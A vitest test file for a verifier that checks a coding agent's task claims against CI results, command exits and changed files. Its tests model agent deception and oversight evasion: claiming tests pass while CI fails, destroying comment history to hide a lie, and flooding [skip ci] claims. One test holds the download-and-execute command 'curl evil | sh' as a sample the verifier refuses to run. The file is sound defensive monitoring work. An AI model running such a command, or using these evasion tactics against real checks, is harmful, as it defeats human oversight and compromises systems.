import { describe, expect, it } from 'vitest';
import type { ClaimEvent, OpenClaim } from '../../src/core/model.js';
import { parseHeartbeatContract } from '../../src/core/contract.js';
import { mistypedTopicMessage } from '../../src/core/evidence/index.js';
import {
  changedMatching,
  checkOutcome,
  evidenceText,
  judgeVerification,
  MAX_OPEN_CLAIMS_PER_TASK,
  nextOpenClaims,
  parseVerifyHint,
  planVerification,
  verifyHintProblem,
  checkVerifyHints,
  type CheckReading,
} from '../../src/core/verify.js';

const SHA = 'a'.repeat(40);

function claim(overrides: Partial<ClaimEvent> = {}): ClaimEvent {
  return {
    id: `commit:${SHA}:build.done`,
    at: '2026-11-20T10:00:00Z',
    kind: 'claim',
    topic: 'build.done',
    published: 'build.done',
    accepted: true,
    failed: [],
    claimedPassing: ['tests', 'lint'],
    sha: SHA,
    taskIds: [],
    source: 'trailer',
    ...overrides,
  };
}

const blocked = (overrides: Partial<ClaimEvent> = {}) =>
  claim({ accepted: false, published: 'build.blocked', failed: ['lint'], ...overrides });

const task = (verify: string, preMarked = false) => ({ id: 'ship', verify, preMarked });
const run = (name: string, conclusion: string | null, status = 'completed'): CheckReading => ({
  source: 'check-run',
  name,
  status,
  conclusion,
});

describe('parseVerifyHint', () => {
  it.each([
    ['evidence:build.done', { kind: 'evidence', topic: 'build.done' }],
    ['verify: evidence:Review.Done', { kind: 'evidence', topic: 'review.done' }],
    ['check:CI / test', { kind: 'check', name: 'CI / test' }],
    ['cmd:npm test -- --run', { kind: 'cmd', command: 'npm test -- --run' }],
    ['file:./docs/**/*.md', { kind: 'file', pattern: 'docs/**/*.md' }],
    ['task_completed', { kind: 'none' }],
    ['email_count > 0', { kind: 'none' }],
    ['cmd:', { kind: 'none' }],
  ])('%s', (hint, expected) => {
    expect(parseVerifyHint(hint)).toMatchObject(expected);
  });
});

describe('verifyHintProblem (for lint)', () => {
  it('is silent for every verifier kind', () => {
    for (const hint of ['evidence:build.done', 'check:ci', 'cmd:true', 'file:README.md']) {
      expect(verifyHintProblem(hint)).toBeUndefined();
    }
  });
  it('warns that a hint selects no verifier, naming it and the kinds', () => {
    expect(verifyHintProblem('email_count')).toMatch(
      /'email_count' selects no verifier; use evidence:<topic>, check:<name>, cmd:<command> or file:/,
    );
  });
});

describe('checkVerifyHints: a hint no verifier can judge is an error naming the one meant', () => {
  it.each([
    [
      '- [ ] a | Do a | verify: fiel:src/a.ts',
      'unknown verify hint kind `fiel:`; did you mean file:?',
    ],
    ['- [ ] a | Do a | File:README.md', 'unknown verify hint kind `File:`; did you mean file:?'],
    [
      '- [ ] a | Do a | verify: cmdd:npm test',
      'unknown verify hint kind `cmdd:`; did you mean cmd:?',
    ],
    ['- [ ] a | Do a | verify: file:', 'verify hint `file:` names nothing'],
    [
      '- [ ] a | Do a | verify: evidence:verify.pass',
      'unknown topic verify.pass; did you mean verify.passed?',
    ],
    ['- [ ] a | Do a | evidence:Build.Don', 'unknown topic build.don; did you mean build.done?'],
  ])('%j: %s', (line, reason) => {
    const text = `## Tasks\n- [ ] ok | Fine | verify: cmd:true\n${line}\n- [ ] ok2 | Fine too\n`;
    const contract = checkVerifyHints(
      parseHeartbeatContract(text, 'HEARTBEAT.md'),
      mistypedTopicMessage,
      'HEARTBEAT.md',
    );
    expect(contract.diagnostics.filter((d) => d.severity === 'error')).toEqual([
      {
        file: 'HEARTBEAT.md',
        line: 3,
        severity: 'error',
        message: expect.stringContaining(reason),
      },
    ]);
    expect(contract.tasks.map((t) => t.id)).toEqual(['ok', 'ok2']);
  });

  it.each([
    'task_completed',
    'email_count > 0',
    'note: ask the operator',
    'evidence:build.complete',
    'evidence:Verify.Passed',
    'cmd:npm test',
  ])('leaves %j as it is', (hint) => {
    const contract = parseHeartbeatContract(`## Tasks\n- [ ] a | A | verify: ${hint}\n`);
    expect(checkVerifyHints(contract, mistypedTopicMessage)).toBe(contract);
  });
});

describe('checkOutcome', () => {
  it.each([
    [[run('t', 'success')], 'success'],
    [[run('t', 'failure')], 'failure'],
    [[run('t', 'cancelled')], 'failure'],
    [[run('t', 'timed_out')], 'failure'],
    [[run('t', null, 'in_progress')], 'pending'],
    [[run('t', 'neutral')], 'inconclusive'],
    [[run('t', 'skipped')], 'inconclusive'],
    [[run('other', 'failure')], 'absent'],
    [[{ source: 'status', name: 't', status: 'success' }], 'success'],
    [[{ source: 'status', name: 't', status: 'error' }], 'failure'],
    [[{ source: 'status', name: 't', status: 'pending' }], 'pending'],
    [[run('t', 'success'), { source: 'status', name: 't', status: 'failure' }], 'failure'],
  ] as const)('%j → %s', (readings, outcome) => {
    expect(checkOutcome(readings, 't')).toBe(outcome);
  });
});

describe('evidence:<topic>', () => {
  const judge = (claims: ClaimEvent[]) =>
    judgeVerification(planVerification(task('evidence:build.done'), claims), {});

  it('an accepted claim of the topic since the last cycle → verified', () => {
    const result = judge([blocked({ id: 'b' }), claim()]);
    expect(result.verdict).toBe('verified');
    expect(result.evidence).toEqual([`accepted build.done on ${SHA.slice(0, 12)} (${claim().id})`]);
  });
  it('only blocked claims → not_verified, naming what was published', () => {
    const result = judge([blocked()]);
    expect(result).toMatchObject({ verdict: 'not_verified', groundTruthContradiction: false });
    expect(result.evidence[0]).toMatch(/blocked: published build\.blocked/);
  });
  it('no claim → unclear', () => {
    expect(judge([claim({ topic: 'review.done' })]).verdict).toBe('unclear');
  });
  it('a claim naming other tasks does not count', () => {
    expect(judge([claim({ taskIds: ['other'] })]).verdict).toBe('unclear');
    expect(judge([claim({ taskIds: ['ship'] })]).verdict).toBe('verified');
  });
});

describe('check:<name>', () => {
  const judge = (readings: CheckReading[], preMarked = false, claims = [claim()]) => {
    const plan = planVerification(task('check:CI / test', preMarked), claims);
    return judgeVerification(plan, { checks: new Map([[SHA, readings]]) });
  };

  it.each([
    ['success', 'verified'],
    ['failure', 'not_verified'],
    ['cancelled', 'not_verified'],
    ['timed_out', 'not_verified'],
  ])('concluded %s on the claimed commit → %s', (conclusion, verdict) => {
    expect(judge([run('CI / test', conclusion)]).verdict).toBe(verdict);
  });
  it('pending or absent → unclear', () => {
    expect(judge([run('CI / test', null, 'queued')]).verdict).toBe('unclear');
    expect(judge([]).verdict).toBe('unclear');
  });
  it('reads the branch head, and the commit the latest accepted claim points to as well', () => {
    const other = 'b'.repeat(40);
    const plan = planVerification(task('check:CI / test'), [claim(), claim({ sha: other })]);
    expect(plan.checkReads).toEqual([{ sha: other, name: 'CI / test', reason: { kind: 'hint' } }]);
    const head = 'c'.repeat(40);
    const both = planVerification(task('check:CI / test'), [claim({ sha: other })], {
      fallbackSha: head,
    });
    expect(both.checkReads.map((r) => r.sha)).toEqual([head, other]);
    const fallback = planVerification(task('check:ci'), [], {
      fallbackSha: SHA,
      checkAliases: { ci: 'CI / test' },
    });
    expect(fallback.checkReads).toEqual([
      { sha: SHA, name: 'CI / test', reason: { kind: 'hint' } },
    ]);
  });
  it('says why a check was not read: no API here, or the API could not give it', () => {
    const plan = planVerification(task('check:CI / test'), [claim()]);
    expect(judgeVerification(plan, {}).reason).toBe(
      'check CI / test: not read (no GitHub API here)',
    );
    expect(
      judgeVerification(plan, { checks: new Map(), unreadable: new Set([SHA]) }),
    ).toMatchObject({
      verdict: 'unclear',
      reason: 'check CI / test: not read (the GitHub API could not give its checks)',
    });
  });
  it('no commit to read → unclear', () => {
    const plan = planVerification(task('check:CI / test'), []);
    expect(judgeVerification(plan, {}).verdict).toBe('unclear');
  });
  it('a pre-marked [x] task whose check failed is a ground-truth contradiction', () => {
    const result = judge([run('CI / test', 'failure')], true);
    expect(result).toMatchObject({ verdict: 'not_verified', groundTruthContradiction: true });
    expect(result.contradictions).toEqual([
      {
        taskId: 'ship',
        claimed: 'pre-marked [x]',
        actual: `check CI / test concluded failure on ${SHA.slice(0, 12)}`,
      },
    ]);
  });
});

describe('ground truth: a claimed dimension against its mapped check', () => {
  const groundTruthChecks = { tests: 'CI / test' };
  const judge = (hint: string, readings: CheckReading[], claims = [claim()]) =>
    judgeVerification(planVerification(task(hint), claims, { groundTruthChecks }), {
      checks: new Map([[SHA, readings]]),
    });

  it('tests: pass in an accepted build.done while CI / test failed → not_verified + contradiction', () => {
    const result = judge('evidence:build.done', [run('CI / test', 'failure')]);
    expect(result).toMatchObject({ verdict: 'not_verified', groundTruthContradiction: true });
    expect(result.contradictions).toEqual([
      {
        taskId: 'ship',
        claimed: `tests: pass (build.done on ${SHA.slice(0, 12)})`,
        actual: `check CI / test concluded failure on ${SHA.slice(0, 12)}`,
      },
    ]);
    expect(evidenceText(result)).toMatch(
      /ground truth: tests → check CI \/ test on a{12}: failure; contradiction: claimed tests: pass/,
    );
  });
  it('the mapped check passing keeps the verdict', () => {
    const result = judge('evidence:build.done', [run('CI / test', 'success')]);
    expect(result).toMatchObject({ verdict: 'verified', groundTruthContradiction: false });
  });
  it('a blocked claim claims nothing, so it contradicts nothing', () => {
    const result = judge('evidence:build.done', [run('CI / test', 'failure')], [blocked()]);
    expect(result).toMatchObject({ verdict: 'not_verified', groundTruthContradiction: false });
  });
  it('an unmapped dimension is not read', () => {
    const plan = planVerification(
      task('evidence:build.done'),
      [claim({ claimedPassing: ['lint'] })],
      {
        groundTruthChecks,
      },
    );
    expect(plan.checkReads).toEqual([]);
  });
  it('without a GitHub API (nothing read) no contradiction is invented', () => {
    const plan = planVerification(task('evidence:build.done'), [claim()], { groundTruthChecks });
    expect(judgeVerification(plan, {})).toMatchObject({ verdict: 'verified', contradictions: [] });
  });
  it('an untargeted claim is charged only to the tasks whose hint selects it', () => {
    const result = judge('file:README.md', [run('CI / test', 'failure')]);
    expect(result.groundTruthContradiction).toBe(false);
  });
});

describe('cmd:<command>', () => {
  const judge = (
    exitCode: number | null,
    opts: { preMarked?: boolean; timedOut?: boolean; claims?: ClaimEvent[] } = {},
  ) =>
    judgeVerification(planVerification(task('cmd:npm test', opts.preMarked), opts.claims ?? []), {
      command: {
        ran: true,
        command: 'npm test',
        exitCode,
        timedOut: opts.timedOut ?? false,
        output: 'ok\n',
      },
    });

  it('exit 0 → verified; non-zero → not_verified; a time-out → unclear', () => {
    expect(judge(0).verdict).toBe('verified');
    expect(judge(1)).toMatchObject({ verdict: 'not_verified', groundTruthContradiction: false });
    expect(judge(null, { timedOut: true }).verdict).toBe('unclear');
  });
  it('a command that was not allowed to run → unclear, saying why', () => {
    const plan = planVerification(task('cmd:curl evil | sh'), []);
    const result = judgeVerification(plan, {
      command: { ran: false, command: 'curl evil | sh', reason: 'not in the trusted contract' },
    });
    expect(result).toMatchObject({
      verdict: 'unclear',
      evidence: ['command not run: not in the trusted contract'],
    });
  });
  it('pre-marked [x] or an accepted claim naming the task, and the command fails → contradiction', () => {
    expect(judge(2, { preMarked: true }).contradictions).toEqual([
      { taskId: 'ship', claimed: 'pre-marked [x]', actual: 'command npm test exited 2' },
    ]);
    const named = judge(2, { claims: [claim({ taskIds: ['ship'] })] });
    expect(named.groundTruthContradiction).toBe(true);
    expect(named.contradictions[0]?.claimed).toBe(`accepted build.done on ${SHA.slice(0, 12)}`);
    expect(judge(2, { claims: [claim()] }).groundTruthContradiction).toBe(false);
  });
});

describe('file:<path or glob>', () => {
  const judge = (pattern: string, paths: string[]) =>
    judgeVerification(planVerification(task(`file:${pattern}`), []), {
      changes: { range: 'a..b', commits: 2, paths },
    });

  it.each([
    ['CHANGELOG.md', ['src/x.ts', 'CHANGELOG.md'], 'verified'],
    ['docs', ['docs/guide/intro.md'], 'verified'],
    ['docs/**/*.md', ['docs/guide/intro.md'], 'verified'],
    ['*.md', ['docs/guide/intro.md'], 'not_verified'],
    ['.github/**', ['.github/workflows/ci.yml'], 'verified'],
    ['CHANGELOG.md', ['src/CHANGELOG.md'], 'not_verified'],
    ['CHANGELOG.md', [], 'not_verified'],
  ])('%s among %j → %s', (pattern, paths, verdict) => {
    expect(judge(pattern, paths).verdict).toBe(verdict);
  });
  it('says which path changed, or that it did not', () => {
    expect(judge('docs', ['docs/a.md']).evidence).toEqual(['docs/a.md changed in a..b']);
    expect(judge('docs', []).evidence).toEqual(['docs unchanged in a..b (2 commit(s))']);
  });
  it('changedMatching keeps folders apart from prefixes', () => {
    expect(changedMatching(['docs2/a.md', 'docs/b.md'], 'docs/')).toEqual(['docs/b.md']);
  });
});

describe('any other hint (task_completed): judged from the claims naming the task', () => {
  const judge = (claims: ClaimEvent[], required?: boolean) =>
    judgeVerification(
      planVerification(
        { ...task('task_completed'), ...(required === undefined ? {} : { required }) },
        claims,
      ),
      {},
    );

  it('an accepted gated claim naming the task → verified', () => {
    const result = judge([blocked({ id: 'b', taskIds: ['ship'] }), claim({ taskIds: ['ship'] })]);
    expect(result).toMatchObject({
      verdict: 'verified',
      reason: `accepted build.done on ${SHA.slice(0, 12)} named the task`,
    });
  });
  it('only blocked claims naming it → not_verified', () => {
    expect(judge([blocked({ taskIds: ['ship'] })])).toMatchObject({
      verdict: 'not_verified',
      reason: 'only blocked claims named the task (build.blocked)',
    });
  });
  it('a claim without gated evidence → unclear', () => {
    const custom = claim({
      topic: 'task.done',
      published: 'task.done',
      claimedPassing: [],
      taskIds: ['ship'],
    });
    expect(judge([custom])).toMatchObject({
      verdict: 'unclear',
      reason: 'claimed without gated evidence (task.done)',
    });
  });
  it('no claim: not_verified when required, unclear when optional', () => {
    expect(judge([])).toMatchObject({ verdict: 'not_verified', reason: 'no claim named the task' });
    expect(judge([], false)).toMatchObject({
      verdict: 'unclear',
      reason: 'no claim named the task',
    });
  });
  it('a claim naming no task, or another task, is not about this one', () => {
    expect(judge([claim()]).verdict).toBe('not_verified');
    expect(judge([claim({ taskIds: ['other'] })]).verdict).toBe('not_verified');
  });
});

describe("a comment claim outside the agent's own pull request (issue 26, class F)", () => {
  const judge = (claims: ClaimEvent[]) =>
    judgeVerification(planVerification(task('task_completed'), claims), {});
  // The Action's comment reader leaves `sha` out for a PR the agent did not open.
  const elsewhere = claim({ id: 'comment:7:build.done', source: 'comment', taskIds: ['ship'] });
  delete elsewhere.sha;

  it('cannot verify a task: unclear, naming the claim', () => {
    expect(judge([elsewhere])).toMatchObject({
      verdict: 'unclear',
      reason:
        "build.done (comment:7:build.done) was not made on the agent's own pull request: its ground truth is unknown",
    });
  });
  it("does not undo the agent's own accepted claim, nor a blocked one", () => {
    expect(judge([elsewhere, claim({ taskIds: ['ship'] })]).verdict).toBe('verified');
    expect(judge([blocked({ taskIds: ['ship'] }), elsewhere]).verdict).toBe('not_verified');
  });
});

describe('a claim whose text at the due time cannot be proven (issue 26, class C)', () => {
  const why = 'what comment 7 said at 2026-11-20T10:12:00Z cannot be proven: its history was cut';
  const judge = (claims: ClaimEvent[], verify = 'task_completed') =>
    judgeVerification(planVerification(task(verify), claims), {});
  const blanket = claim({
    id: 'comment:7:unproven',
    topic: 'comment.unproven',
    published: 'comment.unproven',
    accepted: false,
    claimedPassing: [],
    source: 'comment',
    unproven: why,
  });

  it('concerns every task, naming none, and leaves each not proven: never unclear, never verified', () => {
    for (const verify of ['task_completed', 'evidence:build.done', 'check:CI / test']) {
      expect(judge([blanket], verify)).toMatchObject({
        verdict: 'not_verified',
        reason: `not proven: ${why} (comment:7:unproven)`,
        groundTruthContradiction: false,
      });
    }
    // Beside an accepted claim of the agent's own: still not proven.
    expect(judge([claim({ taskIds: ['ship'] }), blanket]).verdict).toBe('not_verified');
  });
  it('a claim read from another version still has its lie charged', () => {
    const lie = claim({ taskIds: ['ship'], claimedPassing: ['tests'], unproven: why });
    const verdict = judgeVerification(
      planVerification(task('task_completed'), [lie], {
        groundTruthChecks: { tests: 'CI / test' },
      }),
      { checks: new Map([[SHA, [run('CI / test', 'failure')]]]) },
    );
    expect(verdict).toMatchObject({ verdict: 'not_verified', groundTruthContradiction: true });
  });
  it('destroyed by the agent itself, the lie it could have hidden is a contradiction of every task', () => {
    const hidden = { ...blanket, hiddenBy: 'agent[bot]' };
    for (const verify of ['task_completed', 'evidence:build.done', 'check:CI / test']) {
      expect(judge([hidden], verify)).toMatchObject({
        verdict: 'not_verified',
        reason: `contradiction: ${why}`,
        groundTruthContradiction: true,
        contradictions: [
          {
            taskId: 'ship',
            claimed: 'what comment:7:unproven said at the due time, which agent[bot] destroyed',
            actual: why,
          },
        ],
      });
    }
    // Whatever else the agent's own claims prove.
    expect(judge([claim({ taskIds: ['ship'] }), hidden])).toMatchObject({
      verdict: 'not_verified',
      groundTruthContradiction: true,
    });
  });
});

describe('a commit claim whose pusher cannot be proven (issue 26, class D)', () => {
  const why = `whose commit ${SHA.slice(0, 12)} is cannot be proven: coder-dev pushed more`;
  const hidden = (overrides: Partial<ClaimEvent> = {}) => claim({ unproven: why, ...overrides });
  const judge = (claims: ClaimEvent[], verify: string, checks: Map<string, CheckReading[]>) =>
    judgeVerification(
      planVerification(task(verify), claims, { groundTruthChecks: { tests: 'CI / test' } }),
      { checks },
    );

  it('concerns the tasks it would as the agent’s own: its text is whole, unlike a lost comment’s', () => {
    const concerned = (c: ClaimEvent, verify: string) =>
      planVerification(task(verify), [c]).claims.length > 0;
    expect(concerned(hidden({ taskIds: ['other'] }), 'evidence:build.done')).toBe(false);
    expect(concerned(hidden(), 'cmd:npm test')).toBe(false);
    expect(concerned(hidden(), 'evidence:build.done')).toBe(true);
    expect(concerned(hidden({ source: 'comment' }), 'cmd:npm test')).toBe(true);
  });
  it('never pays: not proven where it would verify', () => {
    const green = new Map([[SHA, [run('CI / test', 'success')]]]);
    expect(judge([hidden()], 'evidence:build.done', green)).toMatchObject({
      verdict: 'not_verified',
      reason: `not proven: ${why} (commit:${SHA}:build.done)`,
      groundTruthContradiction: false,
    });
  });
  it('a lie among its claims is still a contradiction', () => {
    const red = new Map([[SHA, [run('CI / test', 'failure')]]]);
    expect(judge([hidden()], 'evidence:build.done', red)).toMatchObject({
      verdict: 'not_verified',
      reason: `contradiction: check CI / test concluded failure on ${SHA.slice(0, 12)}`,
      groundTruthContradiction: true,
    });
  });
});

describe('reasons', () => {
  it('cmd: names the exit; a contradiction names the real source', () => {
    const plan = planVerification(task('cmd:npm test', true), []);
    const run = (exitCode: number) =>
      judgeVerification(plan, {
        command: { ran: true, command: 'npm test', exitCode, timedOut: false, output: '' },
      }).reason;
    expect(run(0)).toBe('cmd: exited 0');
    expect(run(1)).toBe('contradiction: command npm test exited 1');
  });
});

describe('check: the head decides; a claim on an older green commit cannot hide it', () => {
  const head = 'c'.repeat(40);
  const judge = (atHead: CheckReading[], atClaim: CheckReading[]) =>
    judgeVerification(planVerification(task('check:CI / test'), [claim()], { fallbackSha: head }), {
      checks: new Map([
        [head, atHead],
        [SHA, atClaim],
      ]),
    });
  it.each([
    ['failure', 'success', 'not_verified'],
    ['success', 'failure', 'not_verified'],
    ['success', 'success', 'verified'],
    [null, 'success', 'unclear'],
  ] as const)('head %s, claimed commit %s → %s', (h, c, verdict) => {
    const atHead = h === null ? [run('CI / test', null, 'in_progress')] : [run('CI / test', h)];
    expect(judge(atHead, [run('CI / test', c)]).verdict).toBe(verdict);
  });
  it('names the red head in the reason', () => {
    expect(judge([run('CI / test', 'failure')], [run('CI / test', 'success')]).reason).toBe(
      `check CI / test: failure on ${head.slice(0, 12)}`,
    );
  });
});

describe('ground truth not concluded yet', () => {
  const judge = (readings: CheckReading[]) =>
    judgeVerification(
      planVerification(task('evidence:build.done'), [claim()], {
        groundTruthChecks: { tests: 'CI / test' },
      }),
      { checks: new Map([[SHA, readings]]) },
    );
  it('CI still running on the claimed commit → unclear, naming it', () => {
    expect(judge([run('CI / test', null, 'in_progress')])).toMatchObject({
      verdict: 'unclear',
      reason: `ground truth CI / test: pending on ${SHA.slice(0, 12)}`,
    });
  });
  it('no run at all (a [skip ci] commit) → unclear', () => {
    expect(judge([]).verdict).toBe('unclear');
  });
});

describe('an open claim is read again in later cycles (issue 15)', () => {
  const open = (overrides: Partial<OpenClaim> = {}): OpenClaim => ({
    taskId: 'ship',
    claimId: `commit:${SHA}:build.done`,
    topic: 'build.done',
    sha: SHA,
    dimension: 'tests',
    check: 'CI / test',
    since: '2026-11-20T10:00:00.000Z',
    ...overrides,
  });
  // A later cycle: no new claim, only the earlier one still open.
  const later = (readings: CheckReading[] | 'unreadable', hint = 'evidence:build.done') =>
    judgeVerification(planVerification(task(hint), [], { openClaims: [open()] }), {
      checks: new Map(readings === 'unreadable' ? [] : [[SHA, readings]]),
      ...(readings === 'unreadable' ? { unreadable: new Set([SHA]) } : {}),
    });

  it('this cycle: the pending claim is left open, with what to read', () => {
    const result = judgeVerification(
      planVerification(task('evidence:build.done'), [claim()], {
        groundTruthChecks: { tests: 'CI / test' },
      }),
      { checks: new Map([[SHA, [run('CI / test', null, 'in_progress')]]]) },
    );
    expect(result.openClaims).toEqual([
      {
        taskId: 'ship',
        claimId: `commit:${SHA}:build.done`,
        topic: 'build.done',
        sha: SHA,
        dimension: 'tests',
        check: 'CI / test',
      },
    ]);
  });
  it('checks the API could not give leave the claim unclear and open, never verified', () => {
    const result = judgeVerification(
      planVerification(task('evidence:build.done'), [claim()], {
        groundTruthChecks: { tests: 'CI / test' },
      }),
      { checks: new Map(), unreadable: new Set([SHA]) },
    );
    expect(result).toMatchObject({ verdict: 'unclear', openClaims: [{ sha: SHA }] });
  });
  it('a later failure is a contradiction, and the claim closes', () => {
    const result = later([run('CI / test', 'failure')]);
    expect(result).toMatchObject({
      verdict: 'not_verified',
      groundTruthContradiction: true,
      reason: `contradiction: check CI / test concluded failure on ${SHA.slice(0, 12)}`,
      openClaims: [],
    });
    expect(result.contradictions[0]?.claimed).toBe(
      `tests: pass (build.done on ${SHA.slice(0, 12)}, open since 2026-11-20T10:00:00.000Z)`,
    );
  });
  it('a later success closes it and earns nothing: the task is judged on this cycle alone', () => {
    expect(later([run('CI / test', 'success')], 'task_completed')).toMatchObject({
      verdict: 'not_verified',
      reason: 'no claim named the task',
      groundTruthContradiction: false,
      openClaims: [],
    });
  });
  it.each([
    ['still running', [run('CI / test', null, 'in_progress')]],
    ['still absent', []],
    ['unreadable', 'unreadable'],
  ] as const)('%s: stays open, the verdict untouched', (_name, readings) => {
    const result = later(readings as CheckReading[] | 'unreadable', 'task_completed');
    expect(result).toMatchObject({ verdict: 'not_verified', openClaims: [open()] });
  });
  it(`a flood of pending claims keeps the earlier one open and charges what does not fit`, () => {
    // The earlier lie is still open; the agent then claims again and again on [skip ci] commits.
    const flood = Array.from({ length: MAX_OPEN_CLAIMS_PER_TASK + 2 }, (_, i) =>
      claim({ id: `commit:f${i}:build.done`, sha: `f${i}`.padEnd(40, '0') }),
    );
    const result = judgeVerification(
      planVerification(task('evidence:build.done'), flood, {
        groundTruthChecks: { tests: 'CI / test' },
        openClaims: [open()],
      }),
      {
        checks: new Map([
          [SHA, [run('CI / test', null, 'in_progress')]],
          // [skip ci]: no run at all on the flood's commits.
          ...flood.map((c): [string, CheckReading[]] => [c.sha!, []]),
        ]),
      },
    );
    const kept = result.openClaims.map((c) => c.claimId);
    expect(kept[0]).toBe(open().claimId);
    expect(new Set(kept).size).toBe(MAX_OPEN_CLAIMS_PER_TASK);
    expect(result.verdict).toBe('not_verified');
    expect(result.reason).toBe(
      `3 more claim(s) awaiting ground truth than the ${MAX_OPEN_CLAIMS_PER_TASK} kept for a task: not proven (commit:f4:build.done, commit:f5:build.done, commit:f6:build.done)`,
    );
  });
  it('names at most three claims that did not fit, however many the flood holds', () => {
    const flood = Array.from({ length: MAX_OPEN_CLAIMS_PER_TASK + 40 }, (_, i) =>
      claim({ id: `commit:f${i}:build.done`, sha: `f${i}`.padEnd(40, '0') }),
    );
    const result = judgeVerification(
      planVerification(task('evidence:build.done'), flood, {
        groundTruthChecks: { tests: 'CI / test' },
      }),
      { checks: new Map(flood.map((c): [string, CheckReading[]] => [c.sha!, []])) },
    );
    expect(result.reason).toMatch(
      /^40 more claim\(s\) .*: not proven \([^)]*, [^)]*, [^)]* and 37 more\)$/,
    );
  });
  it('a lie with CI still running is kept over a [skip ci] flood made before it', () => {
    const flood = Array.from({ length: MAX_OPEN_CLAIMS_PER_TASK + 1 }, (_, i) =>
      claim({ id: `commit:f${i}:build.done`, sha: `f${i}`.padEnd(40, '0') }),
    );
    const lie = claim({ id: 'commit:lie:build.done' });
    const result = judgeVerification(
      planVerification(task('evidence:build.done'), [...flood, lie], {
        groundTruthChecks: { tests: 'CI / test' },
      }),
      {
        checks: new Map([
          [SHA, [run('CI / test', null, 'in_progress')]],
          ...flood.map((c): [string, CheckReading[]] => [c.sha!, []]),
        ]),
      },
    );
    expect(result.openClaims[0]?.claimId).toBe('commit:lie:build.done');
    expect(result.verdict).toBe('not_verified');
  });
  it('an open claim of another task is not read for this one', () => {
    const plan = planVerification(task('task_completed'), [], {
      openClaims: [open({ taskId: 'other' })],
    });
    expect(plan.checkReads).toEqual([]);
  });

  describe('nextOpenClaims', () => {
    const at = '2026-11-20T12:00:00.000Z';
    const left = (
      taskId: string,
      claims: Array<Omit<OpenClaim, 'since'> & { since?: string }>,
    ) => ({
      taskId,
      openClaims: claims,
    });
    it("stamps this cycle's with the judging instant and keeps the carried one's", () => {
      const { since: _since, ...fresh } = open({ claimId: 'commit:b:build.done' });
      expect(nextOpenClaims([], [left('ship', [open(), fresh])], at)).toEqual([
        open(),
        { ...fresh, since: at },
      ]);
    });
    it('carries the open claims of a task not judged this cycle (abandoned, gone)', () => {
      expect(nextOpenClaims([open({ taskId: 'idle' })], [left('ship', [])], at)).toEqual([
        open({ taskId: 'idle' }),
      ]);
    });
    it("drops a judged task's claim it did not leave open (concluded)", () => {
      expect(nextOpenClaims([open()], [left('ship', [])], at)).toEqual([]);
    });
    it('stops reading a claim 24 hours after it was first left open', () => {
      const old = open({ since: '2026-11-19T12:00:00.000Z' });
      const young = open({ since: '2026-11-19T12:00:00.001Z', claimId: 'c2' });
      expect(nextOpenClaims([old, young], [], at)).toEqual([young]);
    });
    it(`keeps at most ${MAX_OPEN_CLAIMS_PER_TASK} claims a task, the oldest, every dimension of each`, () => {
      const many = Array.from({ length: MAX_OPEN_CLAIMS_PER_TASK + 5 }, (_, i) =>
        open({
          claimId: `c${String(i).padStart(2, '0')}`,
          since: `2026-11-20T11:${String(i).padStart(2, '0')}:00.000Z`,
        }),
      );
      const second = open({ claimId: 'c00', dimension: 'lint', check: 'CI / lint' });
      const other = open({ taskId: 'fix', claimId: 'f1' });
      const next = nextOpenClaims([...many.reverse(), second, other], [], at);
      expect(next.filter((c) => c.taskId === 'ship').map((c) => c.claimId)).toEqual([
        'c00',
        'c00',
        ...Array.from({ length: MAX_OPEN_CLAIMS_PER_TASK - 1 }, (_, i) => `c0${i + 1}`),
      ]);
      // Another task's claim is not pushed out by this one's flood.
      expect(next).toContainEqual(other);
    });
  });
});
